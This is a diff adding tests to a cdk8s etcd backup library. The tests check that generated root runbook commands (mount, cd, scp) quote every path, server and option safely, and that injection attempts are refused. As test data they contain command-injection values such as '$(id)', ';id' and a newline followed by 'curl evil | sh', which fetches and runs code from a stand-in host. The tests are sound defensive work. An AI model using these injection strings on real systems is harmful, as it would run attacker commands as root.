@@ -1,6 +1,8 @@
+import { execFileSync } from 'child_process';
 import { Chart, Size, Testing } from 'cdk8s';
 import * as kplus from 'cdk8s-plus-28';
 import { BackupVolume } from '../../src/backup/backup-volume';
+import { EtcdSnapshotJob } from '../../src/backup/etcd-snapshot-job';
 import { BackupsByHand, runbook } from '../../src/backup/runbook';
 import { EtcdCluster } from '../../src/cluster/etcd-cluster';
 import { EtcdVersion } from '../../src/cluster/etcd-version';
@@ -81,13 +83,71 @@ describe('machines without the volume', () => {
     const page = commands(runbook(cluster, { folder: '/srv/etcd backups', machines: ['cp2'] }));
     expect(page).toContain('cd \'/srv/etcd backups/prod/break-glass\'');
     expect(page).toContain('scp -rp \'/srv/etcd backups/prod/break-glass\' root@10.0.0.11:/root/');
-    expect(page).toContain('scp -rp \'/srv/etcd backups/prod/break-glass\' root@[fd00::13]:/root/');
+    expect(page).toContain('scp -rp \'/srv/etcd backups/prod/break-glass\' \'root@[fd00::13]:/root/\'');
     expect(page).toContain('sh restore.sh --holder cp2 --id ID');
   });
 
   test('need no copy where every machine has one', () => {
     expect(runbook(three, { ...FOLDER, machines: ['cp1', 'cp2', 'cp3'] })).not.toContain('scp');
   });
+});
+
+/** The words of each line of a page that a person types, as a shell reads them: nothing else may run. */
+function wordsTyped(page: string): string[][] {
+  const lines = page.split('\n').filter((line) => /^ {4}(mount|cd|scp) /.test(line));
+  const script = `mount() { printf '%s\\0' mount "$@" END; }; cd() { printf '%s\\0' cd "$@" END; }; scp() { printf '%s\\0' scp "$@" END; }\n${lines.join('\n')}\n`;
+  const said = execFileSync('sh', ['-c', script], { encoding: 'utf8', env: {} }).split('\0END\0').filter((command) => command !== '');
+  return said.map((command) => command.split('\0'));
+}
+
+describe('what is typed as root has each path, server and option as one word', () => {
+  const pageOf = (server: string, path: string, mountOptions?: string[]) => {
+    const volume = BackupVolume.fromNfs(new Chart(Testing.app(), 'platform'), 'nfs', { server, path, mountOptions });
+    return runbook(three, { ...volume._byHand(), machines: [] });
+  };
+
+  test('nfs with blank', () => {
+    expect(wordsTyped(pageOf('nas', '/volume1/etcd backups', ['nfsvers=4.1']))[0]).toEqual(
+      ['mount', '-t', 'nfs', '-o', 'nfsvers=4.1', 'nas:/volume1/etcd backups', '/mnt/backup']);
+  });
+
+  test('a server by IPv6, which mount wants in brackets and Kubernetes without', () => {
+    for (const server of ['fd00::5', '[fd00::5]']) expect(wordsTyped(pageOf(server, '/export'))[0]).toContain('[fd00::5]:/export');
+  });
+
+  test.each(['/e$(id)', '/e`id`', '/it\'s', '/a;id', '/a&b', '/a*', '/a\\b', '/a"b', '/~', '/a#b', '/ä ö', '/!x', '/-rf'])('the path %s', (path) => {
+    expect(wordsTyped(pageOf('nas', path, ['hard', 'sec=sys;id']))[0]).toEqual(['mount', '-t', 'nfs', '-o', 'hard,sec=sys;id', `nas:${path}`, '/mnt/backup']);
+    const folder = `/mnt${path}`;
+    for (const [cluster, machines] of [[three, ['cp2']], [outside, ['worker-1']]] as const) {
+      const typed = wordsTyped(runbook(cluster, { folder, machines: [...machines] }));
+      expect(typed[0]).toEqual(['cd', `${folder}/${cluster.name}/break-glass`]);
+      expect(typed[1].slice(0, 3)).toEqual(['scp', '-rp', `${folder}/${cluster.name}/break-glass`]);
+    }
+  });
+});
+
+test('machines whose names look like numbers are named as they are', () => {
+  expect(runbook(stacked('node.1', 'node.02', 'cp.0x3'), { ...FOLDER, machines: ['node.1'] })).toContain('root@node.02:/root/');
+});
+
+test.each<[string, (scope: Chart) => unknown, string]>([
+  ['server with ;', (scope) => BackupVolume.fromNfs(scope, 'v', { server: 'nas;id>&2;:', path: '/e' }), 'server must be the name or address of an NFS server, got "nas;id>&2;:"'],
+  ['server on a link', (scope) => BackupVolume.fromNfs(scope, 'v', { server: 'fe80::1%eth0', path: '/e' }), 'server must be the name or address of an NFS server'],
+  ['newline in the server', (scope) => BackupVolume.fromNfs(scope, 'v', { server: 'nas\n', path: '/e' }), 'server must be the name or address of an NFS server, got "nas\\n"'],
+  ['newline in path', (scope) => BackupVolume.fromHostPath(scope, 'v', { path: '/mnt/x\n    curl evil | sh' }),
+    'path must be one line without control characters, got "/mnt/x\\n    curl evil | sh": leave them out'],
+  ['newline in the path of NFS', (scope) => BackupVolume.fromNfs(scope, 'v', { server: 'nas', path: '/e\rid' }), 'path must be one line'],
+  ['an escape sequence in a path', (scope) => BackupVolume.fromHostPath(scope, 'v', { path: '/mnt/\u001b[2Jx' }), 'path must be one line'],
+  ['a line separator of Unicode in a path', (scope) => BackupVolume.fromHostPath(scope, 'v', { path: '/mnt/\u2028x' }), 'path must be one line'],
+  ['newline in an option', (scope) => BackupVolume.fromNfs(scope, 'v', { server: 'nas', path: '/e', mountOptions: ['hard\nid'] }), 'mountOptions must be one line'],
+  ['options as one text', (scope) => BackupVolume.fromNfs(scope, 'v', { server: 'nas', path: '/e', mountOptions: 'hard' as any }), 'mountOptions must be a list, got "hard"'],
+  ['newline in the name of a claim', (scope) => BackupVolume.fromPersistentVolumeClaim(scope, 'v', kplus.PersistentVolumeClaim.fromClaimName(scope, 'c', 'x\n    id')),
+    'claim must be a DNS subdomain'],
+  ['newline in the name of the node that keeps the backups of an external etcd', (scope) => new EtcdSnapshotJob(scope, 's', {
+    cluster: outside, volume: BackupVolume.fromHostPath(scope, 'v'), node: kplus.Node.named('worker-1\n    id'),
+  }), 'node must be a DNS subdomain'],
+])('what would add a line to the page is refused: %s', (_, build, message) => {
+  expect(() => build(new Chart(Testing.app(), 'platform'))).toThrow(message);
 });
 
 test.each<[string, (scope: Chart) => BackupVolume, string]>([
